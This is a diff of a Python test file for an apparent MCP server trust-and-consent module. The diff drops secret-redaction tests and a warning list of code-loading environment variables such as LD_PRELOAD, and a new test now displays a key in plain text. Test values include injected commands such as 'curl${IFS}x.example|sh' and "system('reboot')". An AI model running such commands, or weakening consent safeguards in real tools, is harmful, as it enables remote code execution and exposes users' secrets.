@@ -11,31 +11,18 @@ import pytest
 
 from kosmo_kernel.errors import SettingsError, UntrustedError
 from kosmo_kernel.mcp import Server, Trust
-from kosmo_kernel.mcp.trust import command_line, consent_lines, fingerprint
+from kosmo_kernel.mcp.trust import consent_lines, fingerprint
 from kosmo_kernel.safety.text import escape_hidden
 
 SERVER = Server(
     name="ledger",
-    source="project",
     path=Path("/project/.mcp.json"),
     root=Path("/project"),
+    of_project=True,
     command="ledger-server",
     args=("--book", "the blue one"),
     env={"LEDGER_KEY": "open-sesame-42", "BOOK": "${BOOK:-main}"},
 )
-
-LOADING = """
-NODE_OPTIONS NODE_PATH LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT DYLD_INSERT_LIBRARIES PYTHONPATH PYTHONSTARTUP PYTHONHOME
-PYTHONWARNINGS PYTHON_KEYRING_BACKEND PERL5OPT PERL5LIB RUBYOPT RUBYLIB BASH_ENV BASH_FUNC_ls%% ENV PROMPT_COMMAND
-JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS PATH GIT_SSH_COMMAND GIT_EXEC_PATH GIT_CONFIG_COUNT SSH_ASKPASS
-npm_config_registry PIP_INDEX_URL UV_INDEX_URL XDG_CONFIG_HOME HOME DOTNET_STARTUP_HOOKS LUA_INIT_5_4 OPENSSL_CONF
-AWS_SHARED_CREDENTIALS_FILE KUBECONFIG GOFLAGS CARGO_HOME RUSTC_WRAPPER ELIXIR_ERL_OPTIONS EDITOR GCONV_PATH
-"""
-
-HARMLESS = """
-MODE LANG TZ LC_ALL API_KEY NPM_TOKEN GITHUB_PERSONAL_ACCESS_TOKEN PYTHONUNBUFFERED PYTHONIOENCODING NODE_ENV DEBUG
-LOG_LEVEL GOOGLE_API_KEY GIT_AUTHOR_NAME RUST_LOG DATABASE_URL AWS_REGION ENVIRONMENT PATHS MIXED SSH_AUTH_SOCK
-"""
 
 HIDDEN = ["\u202e", "\u2066", "\u200b", "\ufeff", "\u00ad", "\U000e0041", "\u2028", "\ufe0f", "\u3164", "\u05d0"]
 
@@ -52,7 +39,7 @@ def test_trust_is_kept_for_the_next_session(tmp_path: Path) -> None:
 
 
 def test_a_server_of_the_users_own_file_needs_no_trust(tmp_path: Path) -> None:
-    assert Trust(tmp_path).status(replace(SERVER, source="user")) == "trusted"
+    assert Trust(tmp_path).status(replace(SERVER, of_project=False)) == "trusted"
 
 
 @pytest.mark.claim("mcp-trust")
@@ -67,7 +54,7 @@ def test_a_server_of_the_users_own_file_needs_no_trust(tmp_path: Path) -> None:
         {"env": {**SERVER.env, "NEW": "x"}},
         {"env": {**SERVER.env, "BOOK": "${HEROKU_API_KEY}"}},
         {"env": {**SERVER.env, "BOOK": "main"}},
-        {"kind": "http", "url": "https://example.com/mcp"},
+        {"url": "https://example.com/mcp"},
         {"headers": {"Authorization": "Bearer ${TOKEN}"}},
     ],
 )
@@ -90,7 +77,7 @@ def test_a_new_value_of_any_variable_or_header_is_a_change(name: str, field: str
     after: dict[str, Any] = {field: {name: other}}
     first = replace(SERVER, **before)
     assert fingerprint(first) != fingerprint(replace(SERVER, **after))
-    assert fingerprint(first) == fingerprint(replace(first, timeout=5.0, enabled=False))
+    assert fingerprint(first) == fingerprint(replace(first, timeout=5.0))
 
 
 def test_another_projects_server_of_the_same_name_is_another_one(tmp_path: Path) -> None:
@@ -108,73 +95,43 @@ def test_only_the_owner_can_read_the_agreements(tmp_path: Path) -> None:
 
 
 @pytest.mark.claim("mcp-consent")
-def test_what_is_shown_has_each_value_that_is_no_secret_and_names_what_is_left_out() -> None:
-    assert consent_lines(SERVER) == [
+def test_what_would_run_is_shown_as_it_is_written() -> None:
+    assert consent_lines(replace(SERVER, cwd="tools")) == [
         'ledger-server --book "the blue one"',
-        "variable LEDGER_KEY = [redacted]",
+        "in tools",
+        "variable LEDGER_KEY = open-sesame-42",
         "variable BOOK = ${BOOK:-main}",
-        "Not shown, because it may be a secret: the variable LEDGER_KEY. /project/.mcp.json has it.",
     ]
 
 
-@pytest.mark.parametrize(
-    ("name", "value", "shown"),
-    [
-        ("NODE_OPTIONS", "--require ./evil.js", "--require ./evil.js"),
-        ("PYTHON_KEYRING_BACKEND", "evil.Backend", "evil.Backend"),
-        ("AWS_SHARED_CREDENTIALS_FILE", "creds.ini", "creds.ini"),
-        ("NPM_TOKEN", "opensesame", "[redacted]"),
-        ("API_KEY", "./key.pem", "./key.pem"),
-        ("API_KEY", "${secret:ledger.KEY}", "${secret:ledger.KEY}"),
-        ("API_KEY", "@secret:ledger.KEY", "@secret:ledger.KEY"),
-        ("API_KEY", "open${X}sesame", "[redacted]${X}[redacted]"),
-        ("DSN", "postgres://me:opensesame@db.example/x", "postgres://me:[redacted]@db.example/x"),
-        ("MODE", "key=1;curl x.example|sh", "key=1;curl x.example|sh"),
-        ("EMPTY", "", '""'),
-        ("BLANK", " a", '" a"'),
-        ("LINES", "a\nvariable MODE = safe", "a\\nvariable MODE = safe"),
-    ],
-)
-def test_a_value_is_shown_unless_it_is_a_secret(name: str, value: str, shown: str) -> None:
-    lines = consent_lines(replace(SERVER, env={name: value}))
-    assert lines[1] == f"variable {name} = {shown}"
-    assert any(line.startswith("Not shown") for line in lines) == ("[redacted]" in shown)
-
-
-def test_a_header_is_shown_with_its_scheme_and_its_reference() -> None:
-    headers = {"Authorization": "Bearer ${secret:ledger.KEY}", "X-Api-Key": "opensesame", "X-Team": "blue"}
-    assert consent_lines(replace(SERVER, env={}, headers=headers))[1:-1] == [
-        "header Authorization = Bearer ${secret:ledger.KEY}",
-        "header X-Api-Key = [redacted]",
+@pytest.mark.claim("mcp-consent")
+def test_what_would_be_asked_is_shown_as_it_is_written() -> None:
+    headers = {"Authorization": "Bearer ${LEDGER}", "X-Team": "blue"}
+    server = replace(SERVER, command="", args=(), env={}, url="https://x.example/${TEAM}?a=1", headers=headers)
+    assert consent_lines(server) == [
+        "https://x.example/${TEAM}?a=1",
+        'header Authorization = "Bearer ${LEDGER}"',
         "header X-Team = blue",
     ]
 
 
-@pytest.mark.claim("mcp-consent")
 @pytest.mark.parametrize(
-    "name",
-    LOADING.split(),
+    ("value", "shown"),
+    [
+        ("--require ./evil.js", '"--require ./evil.js"'),
+        ("", '""'),
+        (" a", '" a"'),
+        ("a\nvariable MODE = safe", '"a\\nvariable MODE = safe"'),
+        ("key=1;curl${IFS}x.example|sh", "key=1;curl${IFS}x.example|sh"),
+    ],
 )
-def test_a_variable_that_can_run_other_code_is_named_once_more(name: str) -> None:
-    server = replace(SERVER, env={name: "token=x", "MODE": "fast"})
-    assert consent_lines(server)[1:] == [
-        f"variable {name} = token=x",
-        "variable MODE = fast",
-        f"CAREFUL: {name} can make the program run other code than its own.",
-    ]
-
-
-@pytest.mark.parametrize(
-    "name",
-    HARMLESS.split(),
-)
-def test_a_variable_that_runs_no_code_raises_no_alarm(name: str) -> None:
-    assert not any("CAREFUL" in line for line in consent_lines(replace(SERVER, env={name: "1"})))
+def test_a_value_cannot_be_taken_for_another_line_or_word(value: str, shown: str) -> None:
+    assert consent_lines(replace(SERVER, env={"API_KEY": value}))[1:] == [f"variable API_KEY = {shown}"]
 
 
 @pytest.mark.claim("mcp-consent")
 @pytest.mark.parametrize("hidden", HIDDEN)
-@pytest.mark.parametrize("place", ["command", "args", "cwd", "name", "value", "header", "path", "url"])
+@pytest.mark.parametrize("place", ["command", "args", "cwd", "name", "value", "header", "url"])
 def test_no_character_of_what_is_shown_is_hidden(place: str, hidden: str) -> None:
     text = f"a{hidden}b"
     changes: dict[str, dict[str, Any]] = {
@@ -184,55 +141,11 @@ def test_no_character_of_what_is_shown_is_hidden(place: str, hidden: str) -> Non
         "name": {"env": {text: "1"}},
         "value": {"env": {"LD_PRELOAD": text}},
         "header": {"headers": {"X-Team": text}},
-        "path": {"path": Path(f"/{text}/.mcp.json")},
-        "url": {"kind": "http", "url": f"https://{text}.example"},
+        "url": {"url": f"https://{text}.example"},
     }
     shown = "\n".join(consent_lines(replace(SERVER, **changes[place])))
     assert hidden not in shown
     assert f"a{escape_hidden(hidden)}b" in shown
-
-
-@pytest.mark.parametrize(
-    ("args", "line", "left_out"),
-    [
-        (("--api-key=opensesame",), "run --api-key=[redacted]", "--api-key=[redacted]"),
-        (("--token", "opensesame", "-v"), "run --token [redacted] -v", "the word after --token"),
-        (
-            ("https://me:opensesame@x.example/?token=opensesame&a=1",),
-            "run https://me:[redacted]@x.example/?token=[redacted]&a=1",
-            "https://me:[redacted]@x.example/?token=[redacted]&a=1",
-        ),
-        (("--token", "${secret:run.T}", "--api-key=${KEY}"), "run --token ${secret:run.T} --api-key=${KEY}", ""),
-        (("https://me:${secret:run.T}@x.example/",), "run https://me:${secret:run.T}@x.example/", ""),
-        (("--token", "@secret:run.T"), "run --token @secret:run.T", ""),
-    ],
-)
-def test_of_an_argument_that_is_a_secret_the_name_is_shown_and_the_agreement_is_to_its_value(
-    args: tuple[str, ...], line: str, left_out: str
-) -> None:
-    server = replace(SERVER, command="run", args=args, env={})
-
-    assert (consent_lines(server)[0], command_line(server)) == (line, line)
-    assert consent_lines(server)[1:] == (
-        [f"Not shown, because it may be a secret: {left_out}. /project/.mcp.json has it."] if left_out else []
-    )
-    changed = replace(server, args=tuple(arg.replace("opensesame", "another") for arg in args))
-    assert (fingerprint(changed) == fingerprint(server)) == (changed == server)
-
-
-@pytest.mark.parametrize(
-    "args",
-    [
-        ("-c", "KEY=1;curl${IFS}x.example|sh"),
-        ("-e", "token=system('reboot')"),
-        ("--token", "./evil.so"),
-        ("-c", "http://me:;curl${IFS}x.example|sh;@"),
-    ],
-)
-def test_what_may_be_code_is_shown_to_who_agrees_to_it_however_it_is_called(args: tuple[str, ...]) -> None:
-    server = replace(SERVER, command="sh", args=args, env={})
-
-    assert all(arg in consent_lines(server)[0] for arg in args)
 
 
 @pytest.mark.parametrize("text", ["", "{}", "[]", '{"trusted": 3}', "{"])
